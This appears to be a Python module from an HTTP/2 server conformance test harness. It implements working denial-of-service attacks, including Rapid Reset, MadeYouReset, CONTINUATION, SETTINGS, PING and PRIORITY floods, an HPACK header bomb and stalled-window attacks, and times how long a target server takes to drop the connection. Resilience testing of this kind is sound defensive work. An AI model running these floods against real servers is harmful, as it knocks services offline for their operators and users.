"""What hostile peers do. Run in a process of its own, so that it slows nobody but the server:

    python -m Conformance.attacks NAME SECONDS  <target.json

Attacks until the server ends the connection or the time is over, then prints one line of JSON: how
many rounds it took and after how many seconds the server had enough (null: never).
"""

import base64
import dataclasses
import json
import ssl
import struct
import sys
import time

from harness import wire
from harness.wire import DATA, END_HEADERS, END_STREAM, HEADERS, PING, frame

ATTACKS = {}


class Dropped(Exception):
    """The server has ended the connection or refused to go on with it."""


def attack(function):
    """Registers an attack; its docstring says what it is after."""
    ATTACKS[function.__name__] = function
    return function


class Attacker(wire.Peer):
    """A peer that learns of being dropped by sending, and may never read."""

    def __init__(self, target, seconds, handshake=True, own_settings=()):
        self.deadline = time.monotonic() + seconds
        self.rounds = 0
        super().__init__(target, handshake, own_settings)

    def send(self, *pieces):
        left = self.deadline - time.monotonic()
        if left <= 0:
            raise TimeoutError
        self.socket.settimeout(left)
        try:
            self.socket.sendall(b"".join(pieces))
        except TimeoutError:
            raise
        except (OSError, ssl.SSLError) as error:
            raise Dropped(str(error)) from error

    def drain(self):
        """Reads what has come, without waiting; `Dropped` at GOAWAY or the end."""
        while True:
            try:
                received = self.read(0.0005)
            except wire.Silent:
                return
            except wire.Closed as closed:
                raise Dropped(str(closed)) from closed
            if received.kind == wire.GOAWAY:
                raise Dropped(f"GOAWAY {received.code}")

    def wait(self, opened):
        """Waits until the server has ended each of the streams `opened`, or the connection."""
        while opened:
            time.sleep(0.25)
            # Keeps the connection from being idle, and tells whether anyone is there.
            self.send(frame(PING, payload=b"anybody?"))
            self.drain()
            opened -= {seen.stream for seen in self.seen if ends_stream(seen)}
            self.seen.clear()
        raise Dropped("every stream")


def ends_stream(received):
    """Whether a frame is the server's last on its stream."""
    return received.kind == wire.RST_STREAM or (
        received.kind in (DATA, HEADERS) and received.has(END_STREAM)
    )


def streams(first=1):
    """The identifiers a client may use, one after the other."""
    return range(first, 1 << 31, 2)


@attack
def rapid_reset(peer):
    """CVE-2023-44487: open a stream and reset it at once, without end."""
    peer.send_headers(1)
    short = peer.block(peer.target.request())  # From the dynamic table now.
    for stream in streams(3):
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, short), wire.rst_stream(stream))
        peer.rounds += 1
        if peer.rounds % 64 == 0:
            peer.drain()


@attack
def made_you_reset(peer):
    """CVE-2025-8671: make the server reset each stream, by a window that overflows."""
    for stream in streams():
        peer.send_headers(stream, flags=END_HEADERS)
        peer.send(wire.window_update(stream, (1 << 31) - 1))
        peer.rounds += 1
        if peer.rounds % 64 == 0:
            peer.drain()


@attack
def continuation_flood(peer):
    """A field block that never ends."""
    peer.send(frame(HEADERS, 0, 1, peer.block(peer.target.request())))
    literal = b"\x00\x01x\x7e" + b"v" * 126
    for _ in streams():
        peer.send(frame(wire.CONTINUATION, 0, 1, literal * 120))
        peer.rounds += 1


@attack
def empty_continuation_flood(peer):
    """The same with frames that carry nothing."""
    peer.send(frame(HEADERS, 0, 1, peer.block(peer.target.request())))
    burst = frame(wire.CONTINUATION, 0, 1) * 100
    for _ in streams():
        peer.send(burst)
        peer.rounds += 100


@attack
def settings_flood(peer):
    """CVE-2019-9515: SETTINGS without end, whose acknowledgements pile up."""
    burst = wire.settings((wire.INITIAL_WINDOW_SIZE, 65535)) * 100
    for _ in streams():
        peer.send(burst)
        peer.rounds += 100


@attack
def ping_flood(peer):
    """CVE-2019-9512: PING without end, whose answers nobody reads."""
    burst = frame(PING, payload=b"pingpong") * 100
    for _ in streams():
        peer.send(burst)
        peer.rounds += 100


@attack
def priority_flood(peer):
    """CVE-2019-9513: the priority tree is shuffled without end."""
    for stream in streams():
        other = struct.pack(">IB", (stream + 2) & 0x7FFFFFFF, 15)
        peer.send(frame(wire.PRIORITY, stream=stream, payload=other))
        peer.rounds += 1


@attack
def empty_data_flood(peer):
    """CVE-2019-9518: DATA frames that carry nothing and end nothing."""
    peer.send_headers(1, flags=END_HEADERS)
    burst = frame(DATA, 0, 1) * 100
    for _ in streams():
        peer.send(burst)
        peer.rounds += 100


@attack
def window_update_flood(peer):
    """WINDOW_UPDATE by one octet, without end."""
    burst = wire.window_update(0, 1) * 100
    for _ in streams():
        peer.send(burst)
        peer.rounds += 100


@attack
def unknown_frame_flood(peer):
    """Frames of an unknown type, as large as allowed."""
    burst = frame(0xBE, 0, 0, bytes(16384))
    for _ in streams():
        peer.send(burst)
        peer.rounds += 1


@attack
def header_bomb(peer):
    """One large entry in the HPACK table, named by one octet, thousands of times a request."""
    fields = peer.block(peer.target.request())
    value = b"v" * 3900
    bomb = fields + b"\x40\x01x\x7f" + integer(len(value) - 127) + value + b"\xbe" * 12000
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb))
    for stream in streams(3):
        plain = b"".join(b"\x00" + string(n) + string(v) for n, v in peer.target.request())
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, plain + b"\xbe" * 15000))
        peer.rounds += 1
        peer.drain()


def integer(rest):
    """The octets after a full prefix (RFC 7541 section 5.1)."""
    out = bytearray()
    while rest >= 128:
        out.append(rest & 127 | 128)
        rest >>= 7
    return bytes(out + bytes([rest]))


def string(text):
    """A string literal of fewer than 127 octets."""
    return bytes([len(text)]) + text.encode()


def ask_for_much(peer, stream):
    """A request with a large answer; an RPC stream asks for it again and again."""
    peer.send_headers(stream, peer.target.large_headers, END_HEADERS)
    repeated = peer.target.large_body * max(1, 16000 // max(1, len(peer.target.large_body)))
    end = 0 if peer.target.large_body else END_STREAM
    peer.send(frame(DATA, end, stream, repeated))
    peer.rounds += 1


@attack
def unread_answers(peer):
    """Large answers are asked for, with all the window there is, and nothing is ever read."""
    peer.send(wire.window_update(0, (1 << 31) - 65536))
    limit = peer.server_settings.get(wire.MAX_CONCURRENT_STREAMS, 100)
    for stream in streams()[:limit]:
        ask_for_much(peer, stream)
    while True:
        time.sleep(0.25)
        peer.send(frame(PING, payload=b"anybody?"))


@attack
def stalled_windows(peer):
    """As many large answers as allowed, which get no window; the connection is kept alive."""
    limit = peer.server_settings.get(wire.MAX_CONCURRENT_STREAMS, 100)
    for stream in streams()[:limit]:
        ask_for_much(peer, stream)
        peer.drain()
    peer.wait(set(streams()[:limit]))


@attack
def abandoned_uploads(peer):
    """As many bodies as allowed, each begun with a lot of octets and never ended."""
    limit = peer.server_settings.get(wire.MAX_CONCURRENT_STREAMS, 100)
    for stream in streams()[:limit]:
        peer.send_headers(stream, flags=END_HEADERS)
        for _ in range(3):
            peer.send(frame(DATA, 0, stream, bytes(16384)))
        peer.rounds += 1
        peer.drain()
    peer.wait(set(streams()[:limit]))


@attack
def reconnecting_garbage(peer):
    """Connections that say nonsense and come back at once: each is dropped by itself."""
    while time.monotonic() < peer.deadline:
        with peer.target.connect() as connection:
            connection.sendall(b"\x16\x03\x01 nonsense " * 20)
            try:
                while connection.recv(4096):
                    pass
            except (OSError, ssl.SSLError):
                pass
        peer.rounds += 1


OWN_SETTINGS = {
    "stalled_windows": ((wire.INITIAL_WINDOW_SIZE, 0),),
    "unread_answers": ((wire.INITIAL_WINDOW_SIZE, (1 << 31) - 1),),
}


def main():
    name, seconds = sys.argv[1], float(sys.argv[2])
    fields = json.load(sys.stdin)
    for name_of_bytes in ("body", "large_body"):
        fields[name_of_bytes] = base64.b64decode(fields[name_of_bytes])
    target = wire.Target(**fields)
    peer = Attacker(target, seconds, own_settings=OWN_SETTINGS.get(name, ()))
    begun, dropped = time.monotonic(), None
    try:
        ATTACKS[name](peer)
    except Dropped:
        dropped = time.monotonic() - begun
    except TimeoutError:
        pass
    print(json.dumps({"rounds": peer.rounds, "dropped_after": dropped}))


def describe(target):
    """A target as the JSON that `main` reads."""
    fields = dataclasses.asdict(target)
    return json.dumps(fields, default=lambda raw: base64.b64encode(raw).decode())


if __name__ == "__main__":
    main()
